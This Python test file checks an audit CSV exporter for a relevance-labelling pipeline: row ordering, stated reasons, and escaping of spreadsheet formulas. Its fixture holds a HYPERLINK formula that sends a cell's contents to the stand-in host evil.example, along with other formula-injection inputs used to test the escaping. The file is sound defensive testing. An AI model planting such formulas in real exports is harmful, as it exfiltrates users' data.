"""The audit export: the right rows, worst first, as text that no spreadsheet runs."""

import csv
from pathlib import Path

import pyarrow as pa
import pyarrow.parquet as pq
import pytest

from data.contracts import ANNOTATIONS, PAIRS, ContractError, Grade, GradeScale
from pipeline.report import audit
from pipeline.report.audit import COLUMNS, audit_rows, cell, write_csv
from pipeline.stages import STAGES

SCALE = GradeScale(grades=tuple(Grade(name=f"g{i}", definition="d") for i in range(4)), relevant_from=2)
KEY = "0123456789abcdef"
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
# pair, human grade, teacher's grade, agreement
ROWS = [
    ("a", 0, 3, 1.0),
    ("b", 2, 2, 0.5),
    ("c", None, 1, 0.25),
    ("d", 2, 1, 0.75),
    ("e", 3, 3, 1.0),
    ("f", None, 0, 1.0),
]


@pytest.fixture
def run(tmp_path: Path) -> Path:
    """A run's folder with pairs and annotations only."""
    pairs, annotations = tmp_path / STAGES["data"].folder, tmp_path / STAGES["annotate"].folder
    (pairs / "pairs").mkdir(parents=True)
    annotations.mkdir()
    SCALE.save(pairs)
    common = {
        "ad_title": "+1 shoes",
        "ad_text": None,
        "attributes": None,
        "grade_raw": None,
        "split": "pool",
        "source": "t",
    }
    rows = [{"pair_id": name, "query": FORMULA, "grade": human, **common} for name, human, _, _ in ROWS]
    pq.write_table(pa.Table.from_pylist(rows, schema=PAIRS), pairs / "pairs" / "part.parquet")
    write_annotations(annotations, KEY)
    return tmp_path


def write_annotations(folder: Path, key: str) -> None:
    rows = [
        {
            "pair_id": name, "annotation_key": key, "grade": grade, "grade_probs": [0.25] * 4, "reasoning": "\n@SUM(1)",
            "votes": [grade, 0], "agreement": agreement, "n_samples": 2, "n_unparsed": 0, "status": "ok", "error": "",
            "prompt_tokens": 1, "completion_tokens": 1, "created_at": 0,
        }
        for name, _, grade, agreement in ROWS
    ]  # fmt: skip
    pq.write_table(pa.Table.from_pylist(rows, schema=ANNOTATIONS), folder / f"{key}-1.parquet")


def audited(run: Path, **how) -> list[str]:
    found = audit_rows(run / STAGES["annotate"].folder, run / STAGES["data"].folder, **how)
    return [row["pair_id"] for row in found]


def test_the_worst_come_first(run: Path):
    assert audited(run) == ["a", "d", "c", "b"]
    assert audited(run, limit=2) == ["a", "d"]
    assert audited(run, what="disagreements") == ["a", "d"]
    assert audited(run, what="low-agreement") == ["c", "b"]
    assert audited(run, what="low-agreement", low=0.3) == ["c"]


def test_the_reason_is_named(run: Path):
    rows = audit_rows(run / STAGES["annotate"].folder, run / STAGES["data"].folder)
    assert [row["why"] for row in rows] == ["teacher and human differ"] * 2 + ["samples disagree"] * 2


def test_only_the_rows_of_one_key_are_audited(run: Path):
    annotations = run / STAGES["annotate"].folder
    write_annotations(annotations, "f" * 16)
    assert audited(run, key=KEY) == ["a", "d", "c", "b"]
    (run / "empty").mkdir()
    with pytest.raises(ContractError, match="run annotate first"):
        audit_rows(run / "empty", run / STAGES["data"].folder)


def test_a_spreadsheet_finds_no_formula(run: Path, capsys, monkeypatch):
    out = run / "audit.csv"
    monkeypatch.setattr("sys.argv", ["audit", str(run), str(out)])
    audit.main()
    assert capsys.readouterr().out == f"4 pairs in {out}\n"
    with out.open(encoding="utf-8-sig", newline="") as file:
        header, *rows = list(csv.reader(file))
    assert tuple(header) == COLUMNS
    assert len(rows) == 4
    first = dict(zip(header, rows[0], strict=True))
    assert first["query"] == f"'{FORMULA}"
    assert first["ad_title"] == "'+1 shoes"
    assert first["reasoning"] == "' @SUM(1)"
    assert (first["human_grade"], first["teacher_grade"], first["votes"]) == ("0", "3", "3 0")
    assert not any(value.startswith(("=", "+", "-", "@", "\t", "\r")) for row in rows for value in row)


@pytest.mark.parametrize("text", ["=1", "+1", "-1", "@A1", " =1", "\t=1", "\x00=1", "\u200b=1", "＝1", "\r\n=1", "−=1"])
def test_what_begins_like_a_formula_is_text(text: str):
    assert cell(text)[0] in "'−"
    assert not set("\t\r\n\x00\u200b") & set(cell(text))


def test_ordinary_text_stays():
    for text in ("red shoes = 3", "5 - 3", "红色跑鞋 👟", "a@b"):
        assert cell(text) == text


def test_a_run_without_annotations_is_one_sentence(tmp_path: Path, capsys, monkeypatch):
    monkeypatch.setattr("sys.argv", ["audit", str(tmp_path), str(tmp_path / "x.csv")])
    with pytest.raises(SystemExit) as ended:
        audit.main()
    assert ended.value.code == 2
    assert capsys.readouterr().err.count("\n") == 1
    assert not (tmp_path / "x.csv").exists()
    assert write_csv([], tmp_path / "y.csv") is None
